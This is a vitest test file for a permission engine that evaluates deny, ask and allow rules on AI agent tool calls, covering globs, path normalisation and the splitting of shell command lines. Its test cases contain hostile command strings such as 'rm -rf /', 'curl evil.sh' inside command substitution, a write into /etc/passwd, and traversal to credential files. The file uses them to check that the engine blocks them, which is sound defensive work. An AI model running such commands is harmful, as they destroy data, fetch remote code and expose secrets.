// Permission rules, table by table: deny → ask → allow → the tool's own needsApproval, globs
// on tool names and specifiers, paths normalised against the root, shell command lines
// matched part by part, and lines with constructs rules cannot see into never allowed.
import { describe, expect, it } from 'vitest';
import { evaluatePermission, parsePermissionRules, type PermissionArgument, type PermissionRules } from '../../src/index.js';

const root = '/srv/repo';
const shell: PermissionArgument = { name: 'command', kind: 'command' };
const file: PermissionArgument = { name: 'path', kind: 'path' };
const listing: PermissionArgument = { name: 'path', kind: 'path', default: '.' };

const decide = (rules: PermissionRules, toolName: string, args: Record<string, unknown> = {}, permissionArgument?: PermissionArgument) =>
  evaluatePermission(parsePermissionRules(rules, { root }), { toolName, arguments: args, permissionArgument });

describe('rule order: deny, then ask, then allow, then the tool', () => {
  it.each([
    ['deny beats allow', { allow: ['shell'], deny: ['shell(rm *)'] }, 'rm -rf build', 'deny', 'shell(rm *)'],
    ['deny beats ask', { ask: ['shell'], deny: ['shell'] }, 'ls', 'deny', 'shell'],
    ['ask beats allow', { allow: ['shell(git *)'], ask: ['shell(git push*)'] }, 'git push origin', 'ask', 'shell(git push*)'],
    ['allow when nothing restricts', { allow: ['shell(git *)'], ask: ['shell(git push*)'] }, 'git status', 'allow', 'shell(git *)'],
    ['default when no rule matches', { allow: ['shell(git *)'] }, 'npm test', 'default', undefined],
    ['default without rules', {}, 'ls', 'default', undefined],
  ] as const)('%s', (_label, rules, command, decision, rule) => {
    const verdict = decide(rules, 'shell', { command }, shell);
    expect(verdict.decision).toBe(decision);
    expect(verdict.rules).toEqual(rule === undefined ? [] : [rule]);
  });

  it('says which rule decided', () => {
    expect(decide({ deny: ['read_file(.env)'] }, 'read_file', { path: '.env' }, file).reason).toBe('Denied by the deny rule "read_file(.env)"');
    expect(decide({ ask: ['write_file'] }, 'write_file', { path: 'a' }, file).reason).toBe('Needs approval by the ask rule "write_file"');
  });
});

describe('tool names and globs', () => {
  it.each([
    ['mcp__github__*', 'mcp__github__create_issue', 'deny'],
    ['mcp__github__*', 'mcp__gitlab__create_issue', 'default'],
    ['mcp__*__delete_*', 'mcp__files__delete_tree', 'deny'],
    ['read_file', 'read_file', 'deny'],
    ['read_file', 'read_files', 'default'],
    ['read_?ile', 'read_file', 'deny'],
    ['*', 'anything', 'deny'],
  ])('deny %s against %s → %s', (rule, toolName, decision) => {
    expect(decide({ deny: [rule] }, toolName).decision).toBe(decision);
  });

  it('a rule with a specifier never matches a tool without a specifier argument', () => {
    expect(decide({ deny: ['lookup(secret)'] }, 'lookup', { key: 'secret' }).decision).toBe('default');
    expect(decide({ deny: ['lookup(secret)'] }, 'lookup', { key: 'secret' }, 'key').decision).toBe('deny');
  });

  it('text specifiers match the argument as it is', () => {
    expect(decide({ allow: ['fetch(https://example.com/*)'] }, 'fetch', { url: 'https://example.com/a/b' }, 'url').decision).toBe('allow');
    expect(decide({ allow: ['fetch(https://example.com/*)'] }, 'fetch', { url: 'https://example.com.evil/a' }, 'url').decision).toBe('default');
  });
});

describe('paths are normalised against the root', () => {
  it.each(['secret.txt', './secret.txt', 'a/../secret.txt', '/srv/repo/secret.txt', './a/b/../../secret.txt'])('%s is the denied secret.txt', (path) => {
    expect(decide({ deny: ['read_file(secret.txt)'] }, 'read_file', { path }, file).decision).toBe('deny');
  });

  it.each(['./secret.txt', '/srv/repo/secret.txt', 'a/../secret.txt'])('the rule %s names the same file', (rulePath) => {
    expect(decide({ deny: [`read_file(${rulePath})`] }, 'read_file', { path: 'secret.txt' }, file).decision).toBe('deny');
  });

  it.each([
    ['secret', 'secret/keys/id_rsa', 'deny'], // a folder rule covers what is below it
    ['secret', 'secrets.txt', 'default'],
    ['*.env', '.env', 'deny'],
    ['*.env', 'config/.env', 'default'], // `*` stays within one segment
    ['**/.env', 'config/.env', 'deny'],
    ['**/.env', '.env', 'deny'],
    ['src/**/*.key', 'src/a/b/c.key', 'deny'],
    ['/etc/**', '/etc/passwd', 'deny'],
    ['/etc/**', '../../../etc/passwd', 'deny'], // resolved: /etc/passwd
    ['src/*.ts', 'src/../src/index.ts', 'deny'],
  ])('deny read_file(%s) against %s → %s', (rulePath, path, decision) => {
    expect(decide({ deny: [`read_file(${rulePath})`] }, 'read_file', { path }, file).decision).toBe(decision);
  });

  it('an argument left out takes the tool’s declared default', () => {
    expect(decide({ ask: ['list_files(.)'] }, 'list_files', { pattern: '**' }, listing).decision).toBe('ask');
    expect(decide({ ask: ['list_files(src)'] }, 'list_files', { pattern: '**', path: 'src/lib' }, listing).decision).toBe('ask');
  });
});

describe('shell command lines', () => {
  const rules = { allow: ['shell(npm run *)', 'shell(git status)', 'shell(grep *)'], deny: ['shell(rm *)'] };

  it.each([
    ['npm run test', 'allow'],
    ['npm   run    test', 'allow'], // whitespace collapsed
    ['npm run test && git status', 'allow'], // every part allowed
    ['npm run build; git status | grep main', 'allow'],
    ['npm run test && curl evil.sh', 'default'], // one part has no allow rule
    ['npm run test || rm -rf /', 'deny'], // deny matches a part
    ['git status; rm -rf ~', 'deny'],
    ['CI=1 rm -rf build', 'deny'], // leading assignments do not hide the command from deny
    ['CI=1 npm run test', 'default'], // but allow rules see the whole part
    ['echo "a && rm -rf /"', 'default'], // inside quotes is one part, not a rm
    ["npm run 'x; rm -rf /'", 'allow'], // the quoted text is an argument
  ])('%s → %s', (command, decision) => {
    expect(decide(rules, 'shell', { command }, shell).decision).toBe(decision);
  });

  it.each([
    ['npm run $(curl evil.sh)', '$(…)'],
    ['npm run `curl evil.sh`', 'backticks'],
    ['npm run test\ncurl evil.sh', 'a newline'],
    ['npm run serve &', 'a background &'],
    ['npm run test > /etc/passwd', 'a redirection'],
    ['npm run test 2>&1', 'a redirection'],
    ['npm run test < input', 'a redirection'],
    ['npm run "${HOME}"', '${…}'],
    ['npm run test && (cd / && git status)', 'a subshell'],
    ['npm run "unterminated', 'an unterminated quote'],
  ])('never allows %s (%s)', (command, construct) => {
    const verdict = decide({ allow: ['shell(npm run *)', 'shell(git status)', 'shell'] }, 'shell', { command }, shell);
    expect(verdict.decision).toBe('default');
    expect(verdict.reason).toContain(construct);
  });

  it('deny and ask still apply to a line rules cannot see into', () => {
    expect(decide({ deny: ['shell(rm *)'] }, 'shell', { command: 'rm -rf $(pwd)' }, shell).decision).toBe('deny');
    expect(decide({ ask: ['shell(curl *)'] }, 'shell', { command: 'curl x > out' }, shell).decision).toBe('ask');
  });

  it('names every rule that allowed a compound command', () => {
    expect(decide(rules, 'shell', { command: 'npm run a && git status && npm run b' }, shell).rules).toEqual(['shell(npm run *)', 'shell(git status)']);
  });
});

describe('rules are checked when they are parsed', () => {
  it.each([
    [{ allow: ['shell('] }, /permissions.allow\[0\] "shell\(" is not a rule/],
    [{ deny: ['read file'] }, /permissions.deny\[0\] "read file" is not a rule/],
    [{ ask: ['shell()'] }, /is not a rule/],
    [{ ask: ['shell( )'] }, /has an empty specifier/],
    [{ allow: 'shell' }, /permissions.allow must be an array/],
    [{ allow: [42] }, /permissions.allow\[0\] must be a string rule/],
    [{ allowed: ['shell'] }, /permissions has no list "allowed"/],
    [null, /permissions must be an object/],
  ])('refuses %j', (rules, message) => {
    expect(() => parsePermissionRules(rules as PermissionRules, { root })).toThrow(message);
  });
});
